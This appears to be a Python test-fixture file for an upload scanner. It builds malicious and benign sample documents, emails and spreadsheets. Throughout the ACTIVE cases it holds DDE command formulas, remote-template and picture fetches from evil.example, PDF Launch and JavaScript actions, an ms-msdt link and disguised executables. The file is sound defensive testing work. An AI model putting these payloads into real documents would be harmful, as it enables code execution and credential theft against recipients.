"""Files that run or fetch something when they are opened, and files that only look as if they did."""

import io
import zipfile
from email.message import EmailMessage

import openpyxl
import pikepdf

from council.uploads.kinds import KINDS
from tests.council.uploads.compound import compound_file

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
CONTENT = '<Override ContentType="application/vnd.openxmlformats-officedocument.{}.main+xml"/>'
PROGRAM = b"MZ\x90\x00" + bytes(60)


def archive(**entries: str | bytes) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in entries.items():
            book.writestr(name, content)
    return data.getvalue()


def word(text: str = "<w:p/>", **parts: str | bytes) -> bytes:
    return archive(
        **{
            "[Content_Types].xml": CONTENT.format("wordprocessingml.document"),
            "word/document.xml": f"<w:document {W}>{text}</w:document>",
        },
        **parts,
    )


def excel(*formulas: str, **parts: str | bytes) -> bytes:
    cells = "".join(f"<c><f>{formula}</f></c>" for formula in formulas)
    return archive(
        **{
            "[Content_Types].xml": CONTENT.format("spreadsheetml.sheet"),
            "xl/workbook.xml": "<workbook/>",
            "xl/worksheets/sheet1.xml": f"<worksheet>{cells}</worksheet>",
        },
        **parts,
    )


def linked(kind: str, target: str, *, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationships><Relationship Type="{TYPES}{kind}" Target="{target}"{mode}/></Relationships>'


def writer(content: str, **parts: str | bytes) -> bytes:
    return archive(mimetype=KINDS["odt"].content_type, **{"content.xml": content}, **parts)


def pdf(**root: object) -> bytes:
    data = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        for key, value in root.items():
            document.Root[f"/{key}"] = value
        document.save(data, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return data.getvalue()


def act(kind: str, **keys: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **keys)


def pdf_carrying(name: str, content: bytes) -> bytes:
    data = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments[name] = content
        document.save(data)
    return data.getvalue()


def mail(name: str, content: bytes) -> bytes:
    message = EmailMessage()
    message["From"], message["Date"] = "alice@council.example", "Mon, 15 Jun 2026 10:00:00 +0100"
    message.set_content("As agreed.")
    message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


def forwarded(name: str, content: bytes) -> bytes:
    message = EmailMessage()
    message["From"], message["Date"] = "bob@council.example", "Mon, 15 Jun 2026 11:00:00 +0100"
    inner = EmailMessage()
    inner.set_content("See within.")
    inner.add_attachment(content, maintype="image", subtype="png", filename=name)
    message.set_content("Forwarded.")
    message.add_attachment(inner)
    return message.as_bytes()


def outlook(name: str, content: bytes, **streams: bytes) -> bytes:
    attached = "__attach_version1.0_#00000000/__substg1.0_"
    return compound_file(
        {
            "__properties_version1.0": bytes(32),
            f"{attached}3707001F": name.encode("utf-16-le"),
            f"{attached}37010102": content,
            **streams,
        }
    )


def real_workbook() -> bytes:
    data, book = io.BytesIO(), openpyxl.Workbook()
    book.active.append(
        ["=A2&\"|\"&'Q1|Q2'!B1", "plain | words!", '=HYPERLINK("https://council.example","us")']
    )
    book.create_sheet("Q1|Q2")
    book.save(data)
    return data.getvalue()


JS = act("JavaScript", JS=pikepdf.String("app.alert(1)"))
EMBEDDED = {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": excel("cmd|'/C calc'!A0")}


ACTIVE = {
    "an OLE object": (
        word(**{"word/_rels/document.xml.rels": linked("oleObject", "embeddings/oleObject1.bin", mode="")}),
        "docx",
        "embedded object",
    ),
    "a remote template": (
        word(**{"word/_rels/settings.xml.rels": linked("attachedTemplate", "https://evil.example/t.dotm")}),
        "docx",
        "a template",
    ),
    "a template on another machine": (
        word(**{"word/_rels/settings.xml.rels": linked("attachedTemplate", r"file:///\\evil\share\t.dotm")}),
        "docx",
        "a template",
    ),
    "a picture from elsewhere, its address written in numbers": (
        word(**{"word/_rels/document.xml.rels": linked("image", "&#104;ttp://evil.example/p.png")}),
        "docx",
        "a picture",
    ),
    "a frame": (
        word(**{"word/_rels/webSettings.xml.rels": linked("frame", "//evil.example/f")}),
        "docx",
        "another document",
    ),
    "a DDE field": (word("<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"), "docx", "DDE"),
    "a DDE field in pieces, other prefix": (
        word(
            "<x:r><x:instrText>DD</x:instrText></x:r><x:r><x:instrText>EAU</x:instrText></x:r>"
            "<x:instrText>TO cmd</x:instrText>"
        ),
        "docx",
        "DDE",
    ),
    "a simple DDE field": (word("<w:fldSimple w:instr='&#68;DE cmd'/>"), "docx", "DDE"),
    "an included picture": (
        word('<w:instrText>INCLUDEPICTURE "http://evil.example/x"</w:instrText>'),
        "docx",
        "fetches",
    ),
    "a workbook within that calls a program": (word(**EMBEDDED), "docx", "Microsoft_Excel_Sheet1.xlsx"),
    "a program within": (word(**{"word/embeddings/setup.exe": PROGRAM}), "docx", "setup.exe"),
    "a formula that starts a program": (excel("cmd|'/C calc'!A0"), "xlsx", "DDE"),
    "the same written in numbers": (excel("&#99;md|&apos;/C calc&apos;!A0"), "xlsx", "DDE"),
    "a DDE link": (
        excel(**{"xl/externalLinks/externalLink1.xml": "<w><ddeLink ddeService='cmd'/></w>"}),
        "xlsx",
        "DDE",
    ),
    "a workbook on another machine": (
        excel(
            **{
                "xl/externalLinks/_rels/externalLink1.xml.rels": linked(
                    "externalLinkPath", r"file:///\\evil\share\b.xlsx"
                )
            }
        ),
        "xlsx",
        "another workbook",
    ),
    "an event": (writer('<o><t:event-listener s:event-name="dom:load"/></o>'), "odt", "macro"),
    "a remote picture": (writer('<d:image x:href="https://evil.example/p.png"/>'), "odt", "fetches"),
    "a DDE source": (writer("<office:dde-source/>"), "odt", "DDE"),
    "an OLE object in OpenDocument": (
        writer("<o/>", **{"META-INF/manifest.xml": '<f m="application/vnd.sun.star.oleobject"/>'}),
        "odt",
        "embedded object",
    ),
    "a script at opening": (pdf(OpenAction=JS), "pdf", "script"),
    "a script by name": (
        pdf(
            Names=pikepdf.Dictionary(
                JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), JS]))
            )
        ),
        "pdf",
        "script",
    ),
    "a launch": (pdf(OpenAction=act("Launch", F=pikepdf.String("cmd.exe"))), "pdf", "start a program"),
    "a launch after another act": (
        pdf(Extra=act("GoTo", Next=act("Launch", F=pikepdf.String("cmd.exe")))),
        "pdf",
        "start a program",
    ),
    "an address at opening": (
        pdf(OpenAction=act("URI", URI=pikepdf.String("https://evil.example"))),
        "pdf",
        "another address",
    ),
    "a form sent at closing": (
        pdf(AA=pikepdf.Dictionary(WC=act("SubmitForm", F=pikepdf.String("https://evil.example")))),
        "pdf",
        "another address",
    ),
    "an XFA form": (pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))), "pdf", "form"),
    "a program by its name": (pdf_carrying("invoice.exe", b"x"), "pdf", "attachment"),
    "a program by its bytes": (pdf_carrying("invoice.txt", PROGRAM), "pdf", "attachment"),
    "a program in a mail": (mail("invoice.pdf.exe", b"x"), "eml", "invoice.pdf.exe"),
    "an ending that Windows tidies": (mail("minutes.exe. ", b"x"), "eml", "can run"),
    "a program by another name": (mail("photo.jpg", PROGRAM), "eml", "can run"),
    "a script in a ZIP in a mail": (mail("papers.zip", archive(**{"run.js": "x"})), "eml", "run.js"),
    "a shortcut in a ZIP in a ZIP": (
        mail("papers.zip", archive(**{"inner.zip": archive(**{"a.lnk": "x"})})),
        "eml",
        "a.lnk",
    ),
    "a page with a script": (mail("plan.html", b"<SCRIPT>x</SCRIPT>"), "eml", "web page"),
    "a PDF with a script in a mail": (mail("plan.pdf", pdf(OpenAction=JS)), "eml", "script"),
    "RTF with an object": (mail("note.rtf", b"{\\rtf1{\\object\\objdata 01}}"), "eml", "embedded object"),
    "a script in a forwarded mail": (forwarded("run.vbs", b"x"), "eml", "run.vbs"),
    "a script in an Outlook mail": (outlook("run.bat", b"x"), "msg", "run.bat"),
    "a document with a field in an Outlook mail": (
        outlook("plan.docx", word("<w:instrText>DDE cmd</w:instrText>")),
        "msg",
        "DDE",
    ),
    "a reminder's sound on another machine": (
        outlook("a.txt", b"x", **{"__substg1.0_8001001F": r"\\evil\share\a.wav".encode("utf-16-le")}),
        "msg",
        "another machine",
    ),
    "a formula in a list": (b"Title,Owner\n=cmd|'/C calc'!A0,x\n", "csv", "formula"),
    "a formula in quotes": (b"Title;\"@SUM(1)*cmd|'/C calc'!A0\"\n", "csv", "formula"),
}

HARMLESS = {
    "words about DDE": (word("<w:t>DDE fields are | not used!</w:t>"), "docx"),
    "a link to follow": (
        word(**{"word/_rels/document.xml.rels": linked("hyperlink", "https://council.example")}),
        "docx",
    ),
    "a template on one's own drive": (
        word(
            **{
                "word/_rels/settings.xml.rels": linked(
                    "attachedTemplate", r"file:///C:\Templates\Letter.dotx"
                )
            }
        ),
        "docx",
    ),
    "page numbers": (word("<w:instrText>PAGE</w:instrText><w:instrText>QUOTE DATE</w:instrText>"), "docx"),
    "a chart's workbook": (word(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": excel("A1+B1")}), "docx"),
    "a workbook with bars in words and names": (real_workbook(), "xlsx"),
    "an OpenDocument link": (writer('<t:a x:href="https://council.example">us</t:a>'), "odt"),
    "a PDF that opens at a page": (pdf(OpenAction=act("GoTo", D=pikepdf.Array([0]))), "pdf"),
    "a PDF's link": (pdf(Extra=act("URI", URI=pikepdf.String("https://council.example"))), "pdf"),
    "a PDF with figures attached": (pdf_carrying("figures.csv", b"1,2"), "pdf"),
    "a mail with minutes": (mail("minutes.docx", word()), "eml"),
    "a mail with an iPhone's picture": (mail("photo.heic", b"\0\0\0\x18ftypheic" + bytes(20)), "eml"),
    "an Outlook mail with minutes": (outlook("minutes.docx", word()), "msg"),
    "a list with signs": (b"Change,Sum\n-5%,+3\n=A1+B1,alice | bob!\n- Ann | Bo\n", "csv"),
}

CARRIED = {
    "x.rtf": b"{\\rtf1{\\*\\template http://evil.example/x}}",
    "field.rtf": b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/x"}}}',
    "x.slk": b"ID;P\nC;X1;Y1;EEXEC(1)",
    "x.iqy": b"WEB\n1\nhttp://evil.example",
    "x.library-ms": b"<x/>",
    "x.search-ms": b"x",
    "x.desktop": b"x",
    "x.pub": b"x",
    "x.7z": b"x",
    "x.rar": b"x",
    "photo.jpg": b"Rar!\x1a\x07\x00",
    "x.tar.gz": b"\x1f\x8b\x08",
}
ACTIVE |= {f"{name} in a mail": (mail(name, data), "eml", name) for name, data in CARRIED.items()}
ACTIVE |= {
    "a page in a PDF": (pdf_carrying("x.html", b"<script>1</script>"), "pdf", "attachment"),
    "a document in a PDF": (pdf_carrying("x.docx", word()), "pdf", "attachment"),
    "a PDF with a script in a PDF": (pdf_carrying("x.pdf", pdf(OpenAction=JS)), "pdf", "script"),
    "a link that starts a program": (
        word(**{"word/_rels/document.xml.rels": linked("hyperlink", "ms-msdt:/id PCWDiagnostic")}),
        "docx",
        "link that starts a program",
    ),
    "a formula that fetches": (b'a;b\n=IMPORTXML("http://evil.example");1\n', "csv", "formula"),
    "a formula that leads elsewhere": (b'a;b\n=HYPERLINK("http://evil.example");1\n', "csv", "formula"),
    "a formula with a wide sign": ("a;b\n＝cmd|'/C calc'!A0;1\n".encode(), "csv", "formula"),
}
HARMLESS |= {
    "a PDF in a PDF": (pdf_carrying("annex.pdf", pdf()), "pdf"),
    "a link to a colleague's folder": (
        word(**{"word/_rels/document.xml.rels": linked("hyperlink", r"file:///\\files\policy\waste.docx")}),
        "docx",
    ),
    "rich text with one's own template": (
        mail("letter.rtf", b"{\\rtf1{\\*\\template C:\\\\Templates\\\\Letter.dotm}}"),
        "eml",
    ),
}

LAUNCHING = pdf(OpenAction=act("Launch", F=pikepdf.String("cmd.exe")))
